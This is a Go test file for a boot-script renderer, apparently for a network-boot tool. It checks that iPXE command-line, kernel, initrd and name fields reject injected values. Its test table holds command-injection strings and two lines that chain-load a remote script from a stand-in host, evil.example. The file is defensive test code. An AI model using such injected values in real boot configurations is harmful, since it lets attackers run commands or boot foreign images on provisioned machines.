package bootscripts_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/bootpilot/bootpilot/bootscripts"
	"github.com/bootpilot/bootpilot/internal/host"
)

// TestPositiveCheck puts hostile values straight into the validated view
// (as if a validator had a hole): the positive check alone must refuse
// every one with a *host.ValidationError naming the field, write nothing,
// and not repeat the value.
func TestPositiveCheck(t *testing.T) {
	r := MustRenderer(t)
	install := testData(t, host.ActionInstall, testHost(t, nil), testProfile(t, host.InstallerKickstart, nil))
	hold := testData(t, host.ActionHold, testHost(t, nil), host.Profile{})
	const cmdline = "inst.repo=https://mirror.example/rocky9 console=ttyS0,115200"
	for _, tt := range []struct {
		name, field, val, wantField string
		d                           bootscripts.ScriptData
	}{
		{"cmdline ;", "Cmdline", "console=ttyS0 ; echo INJECTED ;", "cmdline", install},
		{"cmdline ; chain", "Cmdline", "; chain http://evil.example/pwn.ipxe ;", "cmdline", install},
		{"cmdline ||", "Cmdline", "a || echo INJECTED", "cmdline", install},
		{"cmdline &&", "Cmdline", "a && echo INJECTED", "cmdline", install},
		{"cmdline # comment", "Cmdline", "a #INJECTED", "cmdline", install},
		{"cmdline ${", "Cmdline", "a=${net0/mac}", "cmdline", install},
		{"cmdline option", "Cmdline", "--name INJECTED", "cmdline", install},
		{"cmdline quote", "Cmdline", `a="INJECTED"`, "cmdline", install},
		{"cmdline backslash", "Cmdline", `a\b`, "cmdline", install},
		{"cmdline tab", "Cmdline", "a\tINJECTED", "cmdline", install},
		{"cmdline vt", "Cmdline", "a\vINJECTED", "cmdline", install},
		{"cmdline ff", "Cmdline", "a\fINJECTED", "cmdline", install},
		{"cmdline CR", "Cmdline", "a\rINJECTED", "cmdline", install},
		{"cmdline newline", "Cmdline", "a\necho INJECTED", "cmdline", install},
		{"cmdline newline label", "Cmdline", "a\n:INJECTED echo x", "cmdline", install},
		{"cmdline NUL", "Cmdline", "a\x00INJECTED", "cmdline", install},
		{"cmdline continuation", "Cmdline", cmdline + ` \`, "cmdline", install},
		{"kernel ;", "Kernel", "https://m/k ; echo INJECTED", "kernel", install},
		{"kernel ${", "Kernel", "https://m/${INJECTED}", "kernel", install},
		{"kernel empty", "Kernel", "", "kernel", install},
		{"kernel option", "Kernel", "-INJECTED", "kernel", install},
		{"initrd url newline", "Initrds.URL", "https://m/i\necho INJECTED", "initrds", install},
		{"initrd name ;", "Initrds.Name", "initrd0 ; echo INJECTED", "initrds", install},
		{"name ;", "Name", "node01 ; echo INJECTED", "name", install},
		{"name in a token", "Name", "a${INJECTED}", "name", install},
		{"task ||", "Task", "install || echo INJECTED", "task", install},
		{"installer quote", "Installer", `kick"INJECTED"`, "installer", install},
		{"profile CR", "Profile", "p\rINJECTED", "profile", install},
		{"hold name ;", "Name", "node01 ; chain http://evil.example/INJECTED ;", "name", hold},
		{"hold name #", "Name", "#INJECTED", "name", hold},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, err := bootscripts.ScriptBypassingValidation(r, tt.d, tt.field, tt.val)
			var ve *host.ValidationError
			if !errors.As(err, &ve) || ve.Field != tt.wantField {
				t.Fatalf("render with %s = %q: error %v, want a *host.ValidationError for %q\nscript:\n%s", tt.field, tt.val, err, tt.wantField, got)
			}
			if got != "" {
				t.Errorf("render failed but returned %q", got)
			}
			if strings.Contains(err.Error(), "INJECTED") {
				t.Errorf("error %q repeats the value", err)
			}
		})
	}
}

// TestPositiveCheckAccepts: harmless values the validators allow stay
// allowed (a ';' inside a word, as autoinstall's ds=nocloud-net;s=…).
func TestPositiveCheckAccepts(t *testing.T) {
	r := MustRenderer(t)
	d := testData(t, host.ActionInstall, testHost(t, nil), testProfile(t, host.InstallerKickstart, nil))
	for _, val := range []string{"a;b ;x x; a:b $x a|b a&b", "  double  spaces  "} {
		got, err := bootscripts.ScriptBypassingValidation(r, d, "Cmdline", val)
		if err != nil {
			t.Errorf("render with Cmdline %q = %v, want it rendered", val, err)
		}
		if !strings.Contains(got, " "+val+" || goto failed\n") {
			t.Errorf("render with Cmdline %q:\n%s\nwant the command line in the kernel line", val, got)
		}
	}
}

func TestPlaceholdersCoverEveryField(t *testing.T) {
	if err := bootscripts.PlaceholdersCoverEveryField(); err != nil {
		t.Error(err)
	}
}
